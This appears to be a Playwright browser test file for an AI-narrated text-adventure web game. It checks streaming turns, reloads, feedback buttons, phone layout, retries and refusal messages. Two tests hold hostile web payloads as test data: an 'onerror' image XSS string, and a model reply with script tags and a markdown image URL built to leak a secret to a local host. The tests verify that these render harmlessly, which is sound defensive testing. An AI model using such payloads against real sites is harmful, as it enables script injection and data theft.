"""Browser tests of the game page: Debian's Chromium driven by Playwright over real HTTP.

Run: ``python -m pytest -q tests/browser``. Set ``GM_UPDATE_SCREENSHOT=1`` to refresh
``docs/screenshot.png`` (from the 1280 px run); ``GM_CHROMIUM`` points at another Chromium.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from game_master.testing import REPO

from .pages import TURN_MS, expect, open_sheet, play, start_game, watch_story

pytestmark = pytest.mark.browser


# --------------------------------------------------------------------------- tests


def test_play_stream_reload_and_feedback(
    serve: Any, new_page: Any, phone: bool, tmp_path: Path
) -> None:
    base = serve(GM_OFFLINE_FIRST_TOKEN_MS="50", GM_OFFLINE_TOKENS_PER_S="200")
    page, problems = new_page()
    page.goto(base + "/")
    # The offline badge explains itself in a player's words, on a tap or a key.
    badge = page.locator("#offline-badge")
    expect(badge).to_be_visible()
    words = badge.locator(".offline-words")
    expect(words).to_be_hidden()
    badge.locator("summary").click()
    expect(words).to_be_visible()
    expect(words).to_contain_text("No AI model is connected")
    badge.locator("summary").click()
    expect(words).to_be_hidden()
    assert "ANTHROPIC" not in page.locator("body").inner_text()
    expect(page.locator("#saved-status")).to_contain_text("No adventures yet")

    start_game(page, base)
    expect(page.locator("#char-name")).to_have_text("Ada")
    expect(page.locator("#location-name")).to_have_text("Village Square")
    assert page.evaluate("document.getElementById('hp-fill').style.width") == "100%"

    # Turn 1: the reply streams in while the busy indicator shows.
    watch_story(page)
    play(page, "look around")
    gm = page.locator("#story .entry-gm:not(.intro)")
    expect(gm).to_have_count(1)
    expect(gm.first).to_contain_text("Village Square")
    seen = page.evaluate("window.__gm")
    assert seen["busySeen"], "the busy indicator never showed"
    assert seen["sendDisabledWhileBusy"], "send/input stayed enabled during the turn"
    assert seen["textChanges"] >= 3, f"narration did not stream ({seen['textChanges']} updates)"
    assert page.evaluate("document.activeElement.id") == "turn-input"
    expect(page.locator("#story .entry-player").first).to_contain_text("look around")
    expect(page.locator("#dice-log li")).not_to_have_count(0)

    # Turn 2: the inventory and the action log update.
    log_before = page.locator("#dice-log li").count()
    play(page, "take the bread")
    expect(page.locator("#inventory")).to_contain_text("Loaf of bread")
    assert page.locator("#dice-log li").count() > log_before
    expect(page.locator("#dice-log li").first).to_contain_text("Take item")
    expect(gm).to_have_count(2)

    update = os.environ.get("GM_UPDATE_SCREENSHOT") == "1" and not phone
    shot = REPO / "docs" / "screenshot.png" if update else tmp_path / "screenshot.png"
    shot.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(shot))
    assert shot.stat().st_size > 10_000

    # Reload: the page opens on the game again, with both turns.
    address = page.url
    page.reload()
    expect(page.locator("#game-screen")).to_be_visible()
    assert page.url == address
    players = page.locator("#story .entry-player")
    expect(players).to_have_count(2)
    expect(players.nth(0)).to_contain_text("look around")
    expect(players.nth(1)).to_contain_text("take the bread")
    expect(gm).to_have_count(2)
    expect(gm.first).to_contain_text("Village Square")
    expect(page.locator("#inventory")).to_contain_text("Loaf of bread")

    # Feedback on the first reply.
    up = gm.first.locator("button.feedback-up")
    with page.expect_response(lambda r: r.url.endswith("/feedback")) as answer:
        up.click()
    assert answer.value.status == 204
    expect(gm.first.locator(".feedback-status")).to_have_text("Feedback recorded")
    expect(up).to_have_class("btn-icon feedback-up chosen")
    expect(up).to_be_disabled()
    expect(gm.first.locator("button.feedback-down")).to_be_disabled()
    expect(gm.first.locator("button.feedback-down")).not_to_have_class("chosen")

    assert problems.items == []


def boxes(page: Any, *selectors: str) -> list[dict[str, float]]:
    """The bounding boxes of the first element of each selector."""
    return [page.locator(s).first.bounding_box() for s in selectors]


def test_the_sheet_stays_in_reach(serve: Any, new_page: Any, phone: bool) -> None:
    """The header is one row. On a phone, hit points, place and pack stay in view above the
    story however far it scrolls, and open the whole sheet over it; on a desktop the sheet is
    a column beside the story. Nothing scrolls sideways."""
    base = serve()
    page, problems = new_page()
    start_game(page, base)
    for message in ("look around", "take the bread", "look around", "go east"):
        play(page, message)
    width = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert width[0] <= width[1], f"horizontal scroll: {width}"
    header = page.locator(".site-header")
    middles = [
        b["y"] + b["height"] / 2
        for b in boxes(page, ".brand", "#offline-badge", "#lines-button", "#new-game-button")
    ]
    assert max(middles) - min(middles) < 4, f"the header wraps: {middles}"
    assert header.bounding_box()["height"] < 64
    cut = "(s) => { const e = document.querySelector(s); return e.scrollWidth > e.clientWidth; }"
    assert not page.evaluate(cut, ".brand"), "the header cuts the brand short"
    last = page.locator("#new-game-button").bounding_box()
    assert last["x"] + last["width"] <= page.viewport_size["width"], last

    quick = page.locator("#quick-bar")
    if not phone:
        expect(quick).to_be_hidden()
        story, panel = boxes(page, ".story-column", ".side-panel")
        assert panel["x"] >= story["x"] + story["width"], (story, panel)
        expect(page.locator("#inventory")).to_be_visible()
        assert problems.items == []
        return

    expect(page.locator("#side-panel")).to_be_hidden()
    expect(quick).to_contain_text("HP 14 / 14")
    expect(quick).to_contain_text("The Crooked Kettle")
    expect(quick).to_contain_text("1 item")
    # Scrolled to the top of a long story and back to its end: the bar stays in view.
    for end in ("0", "document.documentElement.scrollHeight"):
        page.evaluate(f"window.scrollTo(0, {end})")
        box = quick.bounding_box()
        assert box is not None and 0 <= box["y"] <= 844 - box["height"], box
        composer = page.locator("#turn-input").bounding_box()
        assert box["y"] + box["height"] <= composer["y"], (box, composer)
    # It opens the whole sheet over the story; Escape goes back, focus with it.
    quick.click()
    expect(quick).to_have_attribute("aria-expanded", "true")
    expect(page.locator("#inventory")).to_contain_text("Loaf of bread")
    expect(page.locator("#inventory")).to_be_in_viewport()
    expect(page.locator("#location-name")).to_have_text("The Crooked Kettle")
    assert page.evaluate("document.activeElement.id") == "panel-close"
    page.keyboard.press("Escape")
    expect(page.locator("#side-panel")).to_be_hidden()
    expect(quick).to_have_attribute("aria-expanded", "false")
    assert page.evaluate("document.activeElement.id") == "quick-bar"
    # And by its close button.
    quick.click()
    page.click("#panel-close")
    expect(page.locator("#side-panel")).to_be_hidden()
    assert problems.items == []


def test_untrusted_text_is_rendered_as_text(serve: Any, new_page: Any) -> None:
    base = serve()
    page, problems = new_page()
    start_game(page, base)
    payload = "<img src=x onerror=alert(1)>"
    play(page, payload)
    expect(page.locator("#story .entry-player .entry-text").last).to_have_text(payload)
    expect(page.locator("#story .entry-gm:not(.intro)")).to_have_count(1)
    assert page.locator("#story img").count() == 0
    assert page.locator("img").count() == 0
    assert problems.items == []


HOSTILE_NARRATION = (
    "<script>window.__pwned = 1</script> The door creaks. "
    '<img src=x onerror="window.__pwned = 2"> '
    "![map](http://127.0.0.1:9/leak?secret=abc) <b>bold?</b>"
)


def test_hostile_model_output_is_shown_as_text(serve: Any, new_page: Any) -> None:
    """A model that answers with HTML and a data-leaking image URL only produces text."""
    from game_master.offline import Reply
    from game_master.testing.stubs import ScriptedStub

    stub = ScriptedStub(lambda request, n: Reply.text(HOSTILE_NARRATION))
    url = stub.start()
    try:
        base = serve(ANTHROPIC_BASE_URL=url, ANTHROPIC_API_KEY="stub-key")
        page, problems = new_page()
        requests_seen: list[str] = []
        page.on("request", lambda r: requests_seen.append(r.url))
        start_game(page, base)
        play(page, "open the door")
        reply = page.locator("#story .entry-gm:not(.intro) .entry-text").last
        expect(reply).to_contain_text("<script>window.__pwned = 1</script>")
        expect(reply).to_contain_text("![map](http://127.0.0.1:9/leak?secret=abc)")
        assert page.evaluate("window.__pwned") is None
        assert page.locator("#story img, #story script, #story b").count() == 0
        assert not any("leak" in u for u in requests_seen), requests_seen
        assert problems.items == []
    finally:
        stub.stop()


def test_failed_turn_shows_retry_and_keeps_the_message(serve: Any, new_page: Any) -> None:
    base = serve()
    page, problems = new_page()
    start_game(page, base)
    failures = {"left": 1}

    def flaky(route: Any) -> None:
        if failures["left"]:
            failures["left"] -= 1
            route.fulfill(
                status=503,
                content_type="application/json",
                body=json.dumps({"error": {"code": "overloaded", "message": "The GM is busy."}}),
            )
        else:
            route.continue_()

    page.route("**/api/games/*/turns", flaky)
    play(page, "look around")
    error = page.locator("#story .entry-error")
    expect(error).to_contain_text("The GM is busy.")
    expect(page.locator("#turn-input")).to_have_value("look around")
    # The browser logs the failed request itself; that is expected here.
    problems.items = [p for p in problems.items if "503" not in p]

    page.fill("#turn-input", "")
    error.locator("button.retry-button").click()
    expect(page.locator("#busy-indicator")).to_be_hidden(timeout=TURN_MS)
    expect(error).to_have_count(0)
    expect(page.locator("#story .entry-player")).to_have_count(1)
    expect(page.locator("#story .entry-gm:not(.intro)")).to_contain_text("Village Square")
    assert problems.items == []


def test_refusals_are_shown_in_a_players_words(serve: Any, new_page: Any, phone: bool) -> None:
    """A move the rules refuse shows the refusal code's words for players, filled from its
    facts, in the dice & actions log; never the message the rules wrote for the model."""
    base = serve()
    page, problems = new_page()
    start_game(page, base)
    play(page, "go in")
    refused = page.locator("#dice-log li.log-error").first
    expect(refused).to_contain_text("Move")
    expect(refused).to_contain_text("refused")
    expect(refused.locator(".log-detail")).to_have_text("No way in from Village Square.")
    open_sheet(page, phone)
    expect(refused).to_be_visible()
    # The stored turn shows the same words after a reload (from the stored refusal's code).
    page.reload()
    expect(page.locator("#dice-log li.log-error .log-detail").first).to_have_text(
        "No way in from Village Square."
    )
    assert "exits:" not in page.locator("#dice-log").inner_text()
    assert problems.items == []
